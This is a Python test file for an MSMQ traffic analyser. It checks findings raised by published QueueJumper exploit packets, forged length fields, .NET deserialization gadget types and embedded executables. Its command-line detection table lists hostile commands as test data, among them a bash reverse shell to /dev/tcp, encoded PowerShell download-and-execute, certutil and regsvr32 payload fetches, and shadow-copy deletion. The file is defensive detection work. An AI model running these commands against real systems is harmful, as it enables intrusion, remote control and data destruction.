"""Signs of attacks: what published and hand-made packets trigger, and what clean traffic does not."""

from __future__ import annotations

import datetime as dt
import string
import struct
import time
import tomllib
from typing import TYPE_CHECKING, Any

import msgspec
import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st
from impacket.dcerpc.v5 import rpcrt
from support_examples import share
from support_remote_reads import MESSAGE, RECEIVE, Frames, answer_stub, receive_stub
from support_rows import for_each
from support_specs import SPECS

import msmq_wire as mw
from msmq_wire import GUID, captures, mqmq, mqqb, mqrr
from msmq_wire.arrow.dotnet import PREFIX, type_names
from msmq_wire.captures.engine import Settings
from msmq_wire.captures.findings.bursts import ALL, Bursts
from msmq_wire.captures.findings.command_lines import command_line
from msmq_wire.captures.findings.contents import content_columns
from msmq_wire.captures.findings.joining import JOINED, FactSums, joined_findings
from msmq_wire.captures.findings.lengths import WrongLengths, wrong_lengths
from msmq_wire.captures.findings.patterns import FACTS, PATTERNS, SEVERITIES, Pattern
from msmq_wire.captures.findings.replays import REPLAYED, replay_findings
from msmq_wire.captures.rows.packets import CARRIED
from msmq_wire.captures.schemas import plain, schema_of
from msmq_wire.captures.table_builder import TableBuilder
from msmq_wire.packets.directory import replication as mqdsrp
from msmq_wire.testing.captures import Faults, write_captures
from msmq_wire.testing.strategies.directory import signed

from .segments import EPOCH, Capture, Talk, batch_of

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

PUBLISHED: dict[str, bytes] = {
    row["name"]: bytes.fromhex(row["hex"])
    for row in tomllib.loads((SPECS / "vectors" / "published.toml").read_text(encoding="utf-8"))["published"]
}
FIRST = "no-handshake"
EXPECTED = {
    "queuejumper-stage1-valid": {"srmp-probe", "tool-identity", FIRST},
    "queuejumper-stage2-overflow": {"srmp-overflow", "tool-identity", FIRST},
    "sans-isc-2024-06-12-establish": {"tool-identity", "handshake-only"},
    "zgrab2-establish-request": {"tool-identity", "handshake-only"},
    "zgrab2-anomalous-responder": {"tool-identity", "handshake-only"},
    "server-answer-head": {"length-beyond-packet"},  # published in part
    "fuzz-script-real-usermessage": {"tool-identity", FIRST},
    "python-msmq-detector": {"tool-identity", FIRST},
}
ONE, OTHER = GUID.of("11111111-2222-3333-4444-555555555555"), GUID.of("99999999-2222-3333-4444-555555555555")


def findings_of(capture: Capture, place: Path) -> list[dict[str, Any]]:
    """The findings of a capture, without those that need messages of several sources."""
    maker = TableBuilder(frozenset({"findings"}), Settings(), place)
    tables = [*maker.tables([batch_of(capture)], 0)]
    tables += joined_findings(batch for name, batch in tables if name == JOINED)
    return [row for name, batch in tables if name == "findings" for row in batch.to_pylist()]


def names(capture: Capture, place: Path) -> set[str]:
    return {row["id"] for row in findings_of(capture, place)}


def session(capture: Capture, **ends: Any) -> Talk:
    """A connection with a complete handshake."""
    talk = Talk(capture, **ends).open()
    header = mqqb.EstablishConnectionHeader(ClientGuid=ONE, ServerGuid=OTHER)
    establish = mw.encode(mqqb.EstablishConnection(EstablishConnectionHeader=header))
    parameters = mw.encode(mqqb.ConnectionParameters())
    return talk.send("->", establish).send("<-", establish).send("->", parameters).send("<-", parameters)


def message(body: bytes = b"", **more: Any) -> bytes:
    fields = {"SourceQueueManager": ONE, "MessageID": 7, "MessageBody": body}
    return mw.encode(mqmq.UserMessage.of(**{**fields, **more}))


# ------------------------------------------------------------------------------------------ packets


@for_each("name", lambda: EXPECTED)
def test_published_packets(name: str, tmp_path: Path) -> None:
    """Each is the first packet of a connection, as its authors send it."""
    capture = Capture()
    Talk(capture).open().send("->", PUBLISHED[name]).close()
    assert names(capture, tmp_path) == EXPECTED[name]


def test_every_published_packet_is_expected() -> None:
    assert {*EXPECTED} == {*PUBLISHED}


def test_a_finding_has_its_place(tmp_path: Path) -> None:
    capture = Capture()
    talk = session(capture, src="203.0.113.9")
    talk.send("->", message(b"text")).send("->", PUBLISHED["queuejumper-stage2-overflow"]).close()
    (row,) = [row for row in findings_of(capture, tmp_path) if row["severity"] == "alert"]
    assert (row["id"], row["src"], row["dst"]) == ("srmp-overflow", "203.0.113.9", "10.0.0.2")
    assert row["first_frame"] == 9
    assert row["time"] == EPOCH + dt.timedelta(milliseconds=9)
    assert "CVE-2023-21554" in row["references"]
    assert row["evidence"] == (
        "UserMessage.SRMPEnvelopeHeader.DataLength at byte 232 says that Data has 4,294,968,374 bytes from "
        "byte 236 on, but BaseHeader.PacketSize is 2,380"
    )


def test_a_repeated_finding_is_one_row(tmp_path: Path) -> None:
    capture = Capture()
    session(capture).send("->", *[PUBLISHED["queuejumper-stage1-valid"]] * 3).close()
    (row,) = [row for row in findings_of(capture, tmp_path) if row["id"] == "srmp-probe"]
    assert (row["count"], row["first_frame"]) == (3, 8)


@pytest.mark.parametrize(("more", "count"), [({}, 2), ({"checksum": False}, 0)])
def test_segments_that_contradict_each_other(more: dict[str, Any], count: int, tmp_path: Path) -> None:
    """Both were taken by some receiver, unless a checksum is wrong; equal copies say nothing."""
    capture, data = Capture(), message(b"order")
    talk = session(capture).send("->", data)
    for copy in (data, data[:-5] + b"prank", data[:-5] + b"trick"):
        talk.segment("->", talk.next["->"] - len(data), copy, **more)
    talk.close()
    rows = findings_of(capture, tmp_path)
    assert [(row["id"], row["count"], row["first_frame"]) for row in rows] == [
        ("segment-conflict", count, 10)
    ] * bool(count)


def test_a_cut_packet_is_no_overflow(tmp_path: Path) -> None:
    """The end of the capture, and a lost segment, cut the same headers without a wrong length."""
    data = PUBLISHED["queuejumper-stage1-valid"]
    capture = Capture()
    session(capture).send("->", data[:900])
    session(capture, src="10.0.0.5").send("->", data[:300]).send("->", data[300:900], lost=True).send(
        "->", data[900:], message(), message()
    )
    assert names(capture, tmp_path) == {"srmp-probe", "tool-identity"}


@pytest.mark.parametrize(("size", "expected"), [(7, set()), (41, set()), (42, {"srmp-offset"})])
def test_a_body_outside_of_its_header(size: int, expected: set[str], tmp_path: Path) -> None:
    probe: Any = mw.decode(PUBLISHED["queuejumper-stage1-valid"])
    header = mw.replace(probe.CompoundMessageHeader, MsgBodySize=size)
    capture = Capture()
    session(capture).send("->", mw.encode(mw.replace(probe, CompoundMessageHeader=header)))
    assert names(capture, tmp_path) - {"srmp-probe", "tool-identity"} == expected


def test_a_length_of_another_header(tmp_path: Path) -> None:
    data = bytearray(message(b"text"))
    at = data.index(struct.pack("<II", 4, 4))  # MessageSize and AllocationBodySize
    struct.pack_into("<I", data, at, 0x7FFF_FFF0)
    capture = Capture()
    session(capture).send("->", bytes(data), message())
    (row,) = findings_of(capture, tmp_path)
    assert (row["id"], row["severity"]) == ("length-beyond-packet", "warning")
    assert "MessageSize" in row["evidence"]


@pytest.mark.parametrize(
    ("case", "expected"),
    [
        ("whole", True),
        ("last", True),
        ("reset", False),
        ("open", False),
        ("gap before", False),
        ("gap behind", False),
        ("snaplen", False),
        ("midstream", False),
        ("no lie", False),
    ],
)
def test_a_size_beyond_the_connection(case: str, expected: bool, tmp_path: Path) -> None:
    """Only if all bytes of the direction were captured, and the sender has ended it."""
    data = bytearray(message(b"text"))
    if case != "no lie":
        struct.pack_into("<I", data, 8, len(data) + 1000)  # PacketSize
    capture = Capture()
    talk = Talk(capture) if case == "midstream" else session(capture)
    talk.send("->", message(), lost=case == "gap before").send("->", message())
    if case == "snaplen":
        at = talk.next["->"]
        talk.segment("->", at, bytes(data), length=len(data) + 4)
        talk.next["->"] += len(data) + 4
    else:
        talk.send("->", bytes(data), *([] if case == "last" else [message()]))
    if case == "gap behind":
        talk.send("->", b"more", lost=True)
    if case == "reset":
        talk.reset()
    elif case != "open":
        talk.close()
    rows = [row for row in findings_of(capture, tmp_path) if row["id"] == "length-beyond-packet"]
    assert bool(rows) == expected
    for row in rows:
        left = len(data) + (0 if case == "last" else len(message()))
        assert row["evidence"] == (
            f"BaseHeader.PacketSize is {len(data) + 1000:,}, but the connection ends {left:,} bytes after "
            "the beginning of the packet"
        )


def with_size(data: bytes, size: int) -> bytes:
    """A packet with another PacketSize."""
    return data[:8] + struct.pack("<I", size) + data[12:]


@pytest.mark.each(7)
@pytest.mark.parametrize("ends", [True, False], ids=["ended", "open"])
@pytest.mark.parametrize("size", [0, 10, 14, 15, 16, 20, 100, 0x40_0001, 0x7FFF_FFFF, 0xFFFF_FFFF])
def test_a_size_that_cannot_be_right(size: int, ends: bool, tmp_path: Path) -> None:
    """No packet has this size, or the fields of this one need more: whatever was captured behind it."""
    data = with_size(message(b"text"), size)
    for lost in (False, True):
        capture = Capture()
        talk = session(capture).send("->", data)
        talk.send("->", message(), lost=lost).send("->", message())
        if ends:
            talk.close()
        (row,) = findings_of(capture, tmp_path)
        assert (row["id"], row["first_frame"]) == ("length-beyond-packet", 8)
        assert row["evidence"].startswith(f"BaseHeader.PacketSize is {size:,}, but ")


@pytest.mark.parametrize("more", [8, 184, 300])
@pytest.mark.parametrize("ends", [True, False], ids=["ended", "open"])
def test_a_size_beyond_the_next_packet(more: int, ends: bool, tmp_path: Path) -> None:
    """It ends within a packet that follows."""
    data = message(b"text")
    capture = Capture()
    talk = session(capture).send("->", with_size(data, len(data) + more), *[message(bytes(50))] * 3)
    if ends:
        talk.close()
    (row,) = findings_of(capture, tmp_path)
    assert row["evidence"] == (
        f"BaseHeader.PacketSize is {len(data) + more}, but the next packet begins {len(data)} bytes after "
        "this one"
    )


def over_http(length: int, more: int = 0, size: int | None = None) -> bytes:
    """A message over HTTP whose envelope has a length, and a PacketSize that is too large, or another one."""
    data = bytearray(
        message(
            b"order",
            SRMPEnvelopeHeader=mqrr.SRMPEnvelopeHeader(Data="<se:Envelope/>"),
            CompoundMessageHeader=mqrr.CompoundMessageHeader(),
        )
    )
    struct.pack_into("<I", data, data.index("<se".encode("utf-16-le")) - 4, length)
    return with_size(bytes(data), len(data) + more if size is None else size)


@pytest.mark.each(5)
@pytest.mark.parametrize("behind", ["nothing", "end", "message", "gap"])
@pytest.mark.parametrize(
    ("more", "size"), [(0, None), (8, None), (1000, None), *((0, size) for size in (0, 20, 130, 2**31 - 1))]
)
def test_an_overflow_whatever_packet_size_says(
    behind: str, more: int, size: int | None, tmp_path: Path
) -> None:
    """What follows the packet, or ends it early, does not hide it."""
    capture = Capture()
    data = over_http(2**31 - 1, more, size)
    talk = session(capture).send("->", data[:150])
    talk.send("->", data[150:], lost=behind == "gap")
    if behind in {"message", "gap"}:
        talk.send("->", message(), message())
    if behind == "end":
        talk.close()
    (row,) = [row for row in findings_of(capture, tmp_path) if row["severity"] == "alert"]
    assert row["id"] == "srmp-overflow"
    bound = "a packet has at most 4,194,304 bytes" if size is not None else (
        f"BaseHeader.PacketSize is {len(data) + more:,}"
    )  # fmt: skip
    assert row["evidence"] == (
        "UserMessage.SRMPEnvelopeHeader.DataLength at byte 132 says that Data has 4,294,967,294 bytes from "
        f"byte 136 on, but {bound}"
    )


@pytest.mark.parametrize(("length", "expected"), [(124, {"srmp-probe"}), (525, {"srmp-overflow"})])
def test_an_envelope_of_which_bytes_are_missing(length: int, expected: set[str], tmp_path: Path) -> None:
    """It is no overflow if it fits into the size that the packet states."""
    capture = Capture()
    session(capture).send("->", over_http(length, 1000))
    assert names(capture, tmp_path) == expected


@pytest.mark.parametrize("size", [0, 15, 20, 100])
def test_a_check_that_packet_size_hides(size: int, tmp_path: Path) -> None:
    """The flag that tells it is behind the end that PacketSize states, or nothing can be."""
    capture = Capture()
    session(capture).send("->", with_size(PUBLISHED["queuejumper-stage1-valid"], size))
    session(capture, src="10.0.0.5").send("->", with_size(message(b"text"), size))
    rows = [(row["src"], row["id"]) for row in findings_of(capture, tmp_path) if row["id"] != "tool-identity"]
    assert sorted(rows) == [
        ("10.0.0.1", "length-beyond-packet"), ("10.0.0.1", "srmp-probe"), ("10.0.0.5", "length-beyond-packet")
    ]  # fmt: skip


@pytest.mark.each(7)
@pytest.mark.parametrize("closes", [False, True])
@pytest.mark.parametrize("big", [False, True])
@pytest.mark.parametrize(
    ("data", "section", "told"),
    [
        (MESSAGE, {}, None),
        (with_size(MESSAGE, len(MESSAGE) + 4), {}, f"PacketSize is {len(MESSAGE) + 4}, but {{}}"),
        (with_size(MESSAGE, 4_000_000), {}, "PacketSize is 4,000,000, but {}"),
        (with_size(MESSAGE, 15), {}, "PacketSize is 15, but a packet has 16 to 4,194,304 bytes"),
        (with_size(MESSAGE, 4_000_000), {"kind": 1}, None),
        (MESSAGE[:-1], {"kind": 1}, None),
        (PUBLISHED["queuejumper-stage1-valid"], {}, None),
    ],
)
def test_the_answer_of_a_remote_read(
    data: bytes, section: dict[str, Any], told: str | None, big: bool, closes: bool, tmp_path: Path
) -> None:
    """PacketSize is that of the whole packet, also if the reader requested only a part of the body."""
    frames = Frames().bind().opened(2)
    if big:
        frames.big = {rpcrt.MSRPC_RESPONSE}
        section = {**section, "big": True}
    frames.call(RECEIVE, receive_stub(), answer_stub(data, **section), 3)
    if closes:
        frames.talk.close()
    rows = [
        row
        for row in frames.talk.tables(tmp_path, names=["findings"])["findings"]
        if row["id"] != "tool-identity"
    ]
    reason = f"a remote read returned the whole packet in {len(data)} bytes"
    expected = [] if told is None else [("length-beyond-packet", told.format(reason))]
    assert [(row["id"], row["evidence"].partition("BaseHeader.")[2]) for row in rows] == expected


def test_a_beginning_that_was_not_captured(tmp_path: Path) -> None:
    """A message may be the first that is seen."""
    capture = Capture()
    Talk(capture).send("->", message(), message())
    talk = Talk(capture, src="10.0.0.5").open()
    talk.send("->", message(), lost=True).send("->", message())
    assert names(capture, tmp_path) == set()


def _unanswered(talk: Talk) -> None:
    """The segment of the acceptor that answers the opening was not captured."""
    del talk.capture.rows[1]


def _one_sided(talk: Talk) -> None:
    _unanswered(talk)
    talk.send("<-", message(), lost=True)


def _ahead(talk: Talk) -> None:
    """The acceptor speaks first, behind bytes that were not captured."""
    establish = mw.encode(mqqb.EstablishConnection())
    talk.send("<-", establish, lost=True).send("<-", establish, establish)


def _acknowledged(talk: Talk) -> None:
    """The acceptor acknowledges bytes that the opener did not send."""
    talk.send("->", bytes(5000), lost=True).send("<-", message())
    talk.next["->"] -= 5000


@pytest.mark.each(3)
@pytest.mark.parametrize("size", [250, 100], ids=["whole", "truncated"])
@pytest.mark.parametrize("before", [_unanswered, _one_sided, _ahead, _acknowledged, Talk.close])
def test_the_first_of_an_opener_in_findings_and_sessions(
    before: Callable[[Talk], object], size: int, tmp_path: Path
) -> None:
    """Both say the same of a connection whose beginning was captured, whatever is missing of the acceptor."""
    capture = Capture()
    talk = Talk(capture).open()
    before(talk)
    talk.send("->", message()[:size])
    maker = TableBuilder(frozenset({"findings", "sessions"}), Settings(), tmp_path)
    rows = [(name, row) for name, batch in maker.tables([batch_of(capture)], 0) for row in batch.to_pylist()]
    unasked = {row["connection"] for name, row in rows if name == "findings" and row["id"] == FIRST}
    assert unasked == {row["connection"] for name, row in rows if row.get("handshake") == "none"}
    assert unasked


LISTS = mqmq.MultiQueueFormatHeader(
    Destination=mqmq.MQFAddressHeader(
        FormatNameList=[
            mqmq.MQFFormatNameElement(FormatName=mqmq.PrivateQueueFormatName.raw(manager, 5))
            for manager in (ONE, OTHER)
        ]
    )
)


@pytest.mark.parametrize(
    ("offset", "number", "sentence"),
    [
        (8, 15, "PacketSize is 15, but a packet has 16 to 4,194,304 bytes"),
        (8, 60, "PacketSize is 60, but UserMessage.UserHeader.Flags has 4 bytes from byte 60 on"),
        (96, 97, "MessageSize at byte 96 says that MessageBody has 97 bytes from byte 120 on, but {}"),
        (124, 3, "HeaderSize at byte 124 leaves 0 bytes for HeaderID, which has 2"),
        (124, 0, "HeaderSize at byte 124 is 0, but its contents have at least 4 bytes"),
        (124, 93, "HeaderSize at byte 124 is 93, but BaseHeader.PacketSize allows at most 92"),
        (132, 3, "ElementCount at byte 132 is 3, but MQFAddressHeader.HeaderSize allows at most 2"),
        (212, 1, "Size at byte 212 says that Signature has 1 byte from byte 216 on, but {}"),
    ],
)  # fmt: skip
def test_sentences_about_lengths(offset: int, number: int, sentence: str) -> None:
    """The numbers are those that a reader finds in the bytes."""
    data = bytearray(message(b"text", MultiQueueFormatHeader=LISTS))
    struct.pack_into("<I", data, offset, number)
    told, over_http, _ = wrong_lengths(bytes(data))
    assert str(told).endswith(f".{sentence.format('BaseHeader.PacketSize is 216')}")
    assert over_http is None


@pytest.mark.parametrize(("size", "leads_out"), [(0xFFFF, True), (0xFFFE, True), (213, True), (41, False)])
def test_an_odd_size_of_a_name(size: int, *, leads_out: bool) -> None:
    """It leads out of the packet as an even one does; one that fits is a violation."""
    data = bytearray(message(b"text", DestinationQueue=r"DIRECT=TCP:10.0.0.2\private$\q"))
    struct.pack_into("<H", data, 64, size)
    told = str(wrong_lengths(bytes(data)).any)
    assert told.startswith("UserMessage.UserHeader.DestinationQueue.Count at byte 64 ") == leads_out
    assert not leads_out or told.endswith(f"but BaseHeader.PacketSize is {len(data)}")


@pytest.mark.parametrize("sizes", [0, 1, 2])
def test_parts_of_valid_packets_prove_nothing(sizes: int) -> None:
    """Nor does it matter where a packet is cut."""
    more: Any = {"MultiQueueFormatHeader": LISTS} if sizes else {}
    packet: Any = mw.decode(message(bytes(90 * sizes), Label="label", **more))
    for data in (mw.encode(packet), mw.encode(signed(packet)), over_http(15)):
        for end in range(len(data) + 1):
            assert wrong_lengths(data[:end]) == WrongLengths()


@given(st.binary(max_size=400), st.none() | st.integers(0, 400), st.booleans())
def test_any_bytes_behind_a_mark(data: bytes, left: int | None, is_followed: bool) -> None:
    """Sentences are of one form, and no bytes raise an error."""
    head = struct.pack("<BBHI", 0x10, 0, 0, 0x524F494C)
    for sentence in wrong_lengths(head + data, left=left, is_followed=is_followed)[:2]:
        assert sentence is None or "PacketSize" in sentence or "at byte" in sentence


# ------------------------------------------------------------------------------------------ connections


def test_an_answer_that_is_refused(tmp_path: Path) -> None:
    capture = Capture()
    request = mqqb.EstablishConnection(
        EstablishConnectionHeader=mqqb.EstablishConnectionHeader(ClientGuid=ONE)
    )
    talk = Talk(capture).open().send("->", mw.encode(request)).send("<-", mw.encode(request)).close()
    assert names(capture, tmp_path) == {"handshake-only"}
    talk.send("->", message())
    assert names(capture, tmp_path) == set()


@pytest.mark.parametrize(
    ("seconds", "acknowledges", "expected"),
    [(119, False, set()), (121, False, {"never-acknowledged"}), (121, True, set())],
)
def test_acknowledgments(seconds: int, acknowledges: bool, expected: set[str], tmp_path: Path) -> None:
    capture = Capture()
    talk = session(capture).send("->", message(), message())
    rider = mqmq.SessionHeader(AckSequenceNumber=int(acknowledges) * 2)
    data = mw.encode(mqqb.SessionAck(SessionHeader=rider))
    at = EPOCH + dt.timedelta(seconds=seconds)
    talk.segment("<-", talk.next["<-"], data, time=at)
    assert names(capture, tmp_path) == expected


def test_an_acknowledgment_that_is_missing(tmp_path: Path) -> None:
    """The sender has received bytes after all that were captured: they may acknowledge its messages."""
    capture = Capture()
    talk = session(capture).send("->", message())
    talk.send("<-", mw.encode(mqqb.SessionAck.of(AckSequenceNumber=1)), lost=True)
    at = EPOCH + dt.timedelta(seconds=150)
    talk.segment("->", talk.next["->"], message(), time=at)
    assert names(capture, tmp_path) == set()


def test_a_side_that_never_acknowledges_cannot_hide_it(tmp_path: Path) -> None:
    """A message of its own, shortly before the end, changes nothing."""
    capture = Capture()
    talk = session(capture).send("<-", message())
    at = EPOCH + dt.timedelta(seconds=295)
    talk.segment("->", talk.next["->"], message(), time=at)
    talk.next["->"] += len(message())
    data = mw.encode(mqqb.SessionAck(SessionHeader=mqmq.SessionHeader()))
    talk.segment("->", talk.next["->"], data, time=at + dt.timedelta(seconds=5))
    assert "never-acknowledged" in names(capture, tmp_path)


# ------------------------------------------------------------------------------------------ messages


@pytest.mark.parametrize("is_signed", [False, True])
def test_directory_messages(is_signed: bool, tmp_path: Path) -> None:
    content = mqdsrp.ChangePropagationMessage()
    carrier = mqdsrp.wrap(content, "server", ONE, message_id=7, sent_time=1_700_000_000)
    capture = Capture()
    session(capture).send("->", mw.encode(signed(carrier) if is_signed else carrier))
    assert names(capture, tmp_path) == (set() if is_signed else {"directory-unsigned"})


def text(value: str) -> bytes:
    """A LengthPrefixedString of [MS-NRBF]."""
    data = value.encode()
    assert len(data) < 0x4000
    return (
        bytes([len(data)]) if len(data) < 0x80 else bytes([len(data) & 0x7F | 0x80, len(data) >> 7])
    ) + data


def number(value: int) -> bytes:
    return struct.pack("<i", value)


def stream(*records: bytes) -> bytes:
    """A serialized object: a header, records, and the end."""
    return PREFIX + bytes(4) + b"".join(records) + b"\x0b"


def kind(identifier: int, name: str, *members: tuple[str, bytes, bytes]) -> bytes:
    """A SystemClassWithMembersAndTypes: names, types, what belongs to the types; values follow."""
    head = b"\4" + number(identifier) + text(name) + number(len(members))
    return (
        head
        + b"".join(text(member) for member, _, _ in members)
        + b"".join(kind for _, kind, _ in members)
        + b"".join(more for _, _, more in members)
    )


INT, RECORD = (b"\0", b"\x08"), (b"\2", b"")
PERSON = kind(1, "Shop.Order", ("id", *INT), ("lines", *RECORD)) + number(5)
SHORTCUT = bytes.fromhex("4c000000 01140200 00000000 c0000000 00000046")
PE = b"MZ" + bytes(58) + number(64) + b"PE\0\0" + bytes(20)


def text_record(identifier: int, value: str) -> bytes:
    return b"\6" + number(identifier) + text(value)


@pytest.mark.parametrize(
    ("records", "expected"),
    [
        ((PERSON, text_record(2, "one")), ("Shop.Order",)),
        ((PERSON, b"\x0a", kind(3, "B")), ("Shop.Order", "B")),
        # an array of objects as a member: two strings, then nulls, and then another class
        ((PERSON, b"\x10" + number(2) + number(4), text_record(3, "x"), b"\x0d\2", text_record(4, "y"),
          kind(5, "B")),
         ("Shop.Order", "B")),
        # a second object of a class that is known, whose first member is no record
        ((PERSON, b"\1" + number(9) + number(1), number(0x04), b"\x0a", kind(5, "B")), ("Shop.Order", "B")),
        ((b"\x0f" + number(2) + number(3) + b"\2" + b"\4\4\4", kind(5, "B")), ("B",)),
        ((b"\7" + number(2) + b"\0" + number(1) + number(2) + b"\3" + text("Shop.Line"), kind(4, "A"),
          kind(5, "B")), ("Shop.Line", "A", "B")),
        ((kind(1, "A", ("c", b"\0", b"\3"), ("d", b"\0", b"\5")), "ä".encode(), text("1.5"), kind(5, "B")),
         ("A", "B")),
    ],
)  # fmt: skip
def test_type_names(records: tuple[bytes, ...], expected: tuple[str, ...]) -> None:
    """Values whose bytes are records, or names, are skipped."""
    whole = type_names(stream(*records))
    assert (whole.names, whole.problem) == (expected, None)


def test_libraries() -> None:
    read = type_names(
        stream(b"\x0c" + number(2) + text("Shop, Version=1.0.0.0"), b"\5" + kind(1, "A")[1:] + number(2))
    )
    assert (read.names, read.libraries, read.problem) == (("A",), ("Shop, Version=1.0.0.0",), None)


def test_a_stream_that_ends_early() -> None:
    """The names up to there, and the reason."""
    whole = stream(PERSON, text_record(2, "one"))
    for end in range(len(PREFIX) + 4, len(whole)):
        read = type_names(whole[:end])
        assert read.problem
        assert read.names in {(), ("Shop.Order",)}


@given(st.binary(max_size=60))
def test_any_bytes_as_a_stream(data: bytes) -> None:
    read = type_names(PREFIX + bytes(4) + data)
    assert len(read.names) <= len(data)


def test_a_class_with_many_members_costs_what_it_takes() -> None:
    """References to a class are short, and its members are not repeated in memory."""
    members = [(letter, *RECORD) for letter in string.ascii_letters * 20]
    again = b"\1" + number(3) + number(1)
    read = type_names(stream(kind(1, "A", *members), again * 20_000))
    assert read.names == ("A",)


SET = "System.Data.DataSet"
MILLION = 10**6


@pytest.mark.parametrize(
    ("body", "content", "types", "gadgets"),
    [
        (PE, "a Windows executable (MZ, PE)", None, None),
        (b"MZ is a text that is longer than the header of MS-DOS, which has 64 bytes", None, None, None),
        (b"MZ", None, None, None),
        (b"\x7fELF\2\1\1" + bytes(9), "an ELF executable", None, None),
        (b"\x7fELF, a text", None, None, None),
        (bytes.fromhex("cffaedfe 0c000001 00000000 02000000"), "a Mach-O executable", None, None),
        (bytes.fromhex("feedface 00000012 00000000 00000006"), "a Mach-O executable", None, None),
        (bytes.fromhex("cffaedfe 0c000001 00000000 00000002"), None, None, None),  # of no type
        (bytes.fromhex("cffaedfe 0c000001"), None, None, None),
        (bytes.fromhex("cafebabe 00000002 01000007"), "a Mach-O executable", None, None),
        (bytes.fromhex("cafebabe 00000034 00d6"), "a Java class", None, None),
        (bytes.fromhex("cafebabe 00030000"), None, None, None),
        (bytes.fromhex("cafebabe 0000"), None, None, None),
        (SHORTCUT + bytes(4), "a shortcut of Windows (LNK)", None, None),
        (SHORTCUT[:-1] + b"G", None, None, None),
        (b"L\0\0\0", None, None, None),
        (b"#!/bin/sh\necho", "a script for /bin/sh", None, None),
        (b"<?php echo 1;", "a PHP script", None, None),
        (b"\xef\xbb\xbf<?php", "a PHP script", None, None),
        (b"@echo off\r\ndel x", "a batch file", None, None),
        (b"@ECHO OFF", "a batch file", None, None),
        (b"\xef\xbb\xbf@Echo off", "a batch file", None, None),
        (b"<?xml version=", None, None, None),
        ("\ufeff#!/usr/bin/perl\r\n".encode("utf-16-le"), "a script for /usr/bin/perl", None, None),
        (b"#! a heading", None, None, None),
        (b"#!/\xff\xfe", None, None, None),
        (stream(PERSON, b"\x0a"), None, "Shop.Order", None),
        (stream(kind(1, "System.Data.DataSetExtensions")), None, "System.Data.DataSetExtensions", None),
        (stream(kind(1, "System.Data.DataSet")), None, "System.Data.DataSet", "DataSet"),
        (stream(kind(1, "System.DelegateSerializationHolder+DelegateEntry")), None,
         "System.DelegateSerializationHolder+DelegateEntry", "TypeConfuseDelegate"),
        (stream(), None, "no class", None),
        # with the name of an assembly, as DataSetTypeSpoof of ysoserial.net has it
        (stream(kind(1, f"{SET}, System.Data")), None, f"{SET}, System.Data", "DataSet"),
        # identifiers of the root and of the header are free
        (b"\0" + number(2) + number(0) + number(1) + number(0) + kind(2, "System.Data.DataSet"), None,
         "System.Data.DataSet; the rest cannot be read", "DataSet"),
        (b"\0" + number(2) + number(0) + number(2) + number(0) + kind(2, SET), None, None, None),
        # one record stands for all other elements of an array
        (stream(b"\x10" + number(1) + number(MILLION), kind(3, SET), b"\x0e" + number(MILLION - 1)),
         None, "System.Data.DataSet", "DataSet"),
        (stream(b"\7" + number(1) + b"\0" + number(1) + number(MILLION) + b"\2", kind(3, SET),
                b"\x0e" + number(MILLION - 1)), None, "System.Data.DataSet", "DataSet"),
        # the type that matters is among those that are named
        (stream(*(kind(at, f"A{at}") for at in range(1, 1200)), kind(2000, "System.Data.DataSet")), None,
         "System.Data.DataSet, A1, A2, A3, A4 and 1195 more", "DataSet"),
        (stream(b"\x0a" * 100_001, kind(1, "System.Data.DataSet")), None,
         "no class; the rest cannot be read", None),
        (PREFIX[:-1], None, None, None),
        (b"", None, None, None),
        (None, None, None, None),
    ],
)  # fmt: skip
def test_contents(body: bytes | None, content: str | None, types: str | None, gadgets: str | None) -> None:
    columns = content_columns(pa.array([b"before", body], pa.binary()))
    assert {name: column.to_pylist()[1] for name, column in columns.items()} == {
        "content": content, "types": types, "gadgets": gadgets,
    }  # fmt: skip
    assert all(column[0].as_py() is None for column in columns.values())


ENCODED = "powershell -enc SQBFAFgA"
COMMANDS = {
    ENCODED: "powershell",
    "PowerShell.exe -NoProfile -w hidden -c calc": "powershell",
    "powershell IEX(New-Object Net.WebClient).DownloadString('http://a/b')": "powershell",
    "powershell (New-Object Net.WebClient).DownloadFile('a','b')": "powershell",
    'powershell "& {Start-Process calc}"': "powershell",
    "powershell /c calc": "powershell",
    r".\deploy\pwsh -File a.ps1": "pwsh",
    r'"C:\Program Files\PowerShell\7\pwsh.exe" -Command $env:PATH': "pwsh",
    "cmd /c whoami": "cmd",
    "CMD.EXE /Q /C whoami": "cmd",
    "cmd/c whoami": "cmd",
    r"C:\Windows\System32\cmd.exe /k a": "cmd",
    "%COMSPEC% /c a": "%comspec%",
    r"%SystemRoot%\system32\cmd.exe /c a": "cmd",
    "mshta http://192.0.2.1/a.hta": "mshta",
    'mshta vbscript:Execute("a")': "mshta",
    "\r\n rundll32.exe shell32.dll,Control_RunDLL a": "rundll32",
    "rundll32 shell32,Control_RunDLL": "rundll32",
    r"rundll32 \\192.0.2.1\share\a,b": "rundll32",
    "certutil -urlcache -split -f http://192.0.2.1/a a.exe": "certutil",
    "regsvr32 /s /n /u /i:http://192.0.2.1/a.sct scrobj.dll": "regsvr32",
    "regsvr32 /i:http://192.0.2.1/a scrobj.dll": "regsvr32",
    "bitsadmin /transfer a http://192.0.2.1/a b": "bitsadmin",
    "wscript //B a.js": "wscript",
    'wmic process call create "calc"': "wmic",
    "msiexec /q /i http://192.0.2.1/a.msi": "msiexec",
    "schtasks /create /tn a /tr b": "schtasks",
    "curl -s http://192.0.2.1/a | bash": "curl",
    "curl --silent http://192.0.2.1/a": "curl",
    "wget --no-check-certificate https://192.0.2.1/a": "wget",
    "bash -lc 'id'": "bash",
    "bash /tmp/x": "bash",
    "/bin/sh -c id": "sh",
    "powershell & {calc}": "powershell",
    "powershell \"& 'x.ps1'\"": "powershell",
    "powershell -ex bypass -f x": "powershell",
    "powershell /w hidden": "powershell",
    "powershell -EncodedCommand:SQBFAFgA": "powershell",
    "powershell Expand-Archive a.zip": "powershell",
    "powershell $a='b'": "powershell",
    "powershell \u2013enc SQBFAFgA": "powershell",
    "wmic shadowcopy delete": "wmic",
    "wmic /node:192.0.2.1 process call create calc": "wmic",
    'wmic /node:"server" os get': "wmic",
    "wmic path win32_process": "wmic",
    "curl 192.0.2.1/x": "curl",
    "bash --login -c id": "bash",
    "bash -i >& /dev/tcp/192.0.2.1/80 0>&1": "bash",
    "cmd.exe /s/c whoami": "cmd",
}
NO_COMMANDS = (
    "powershell",
    "cmd",
    "cmd ",
    "cmd.exe",
    "powershell.exe\r\n",
    "cmd 42",
    "CMD: restart pump 3",
    "cmd / c",
